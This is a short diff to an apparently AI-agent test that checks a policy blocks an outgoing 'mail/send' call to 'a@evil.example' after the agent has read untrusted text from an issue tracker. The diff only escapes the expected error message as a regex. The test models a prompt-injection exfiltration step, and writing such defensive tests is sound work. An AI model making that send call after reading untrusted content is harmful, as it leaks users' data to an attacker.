@@ -129,7 +129,7 @@ async def test_where_nobody_can_be_asked_nothing_leaves(tmp_path: Path) -> None:
     async with office.hosting(tmp_path, None) as host:
         await host.call_tool("hub/get_issue")
         with pytest.raises(
-            PolicyDenied, match="there is no terminal or client to ask. The untrusted text came from hub"
+            PolicyDenied, match=r"no terminal or client to ask\. The untrusted text came from hub"
         ) as denied:
             await host.call_tool("mail/send", {"to": "a@evil.example"})
     assert "tainted = true" in str(denied.value)
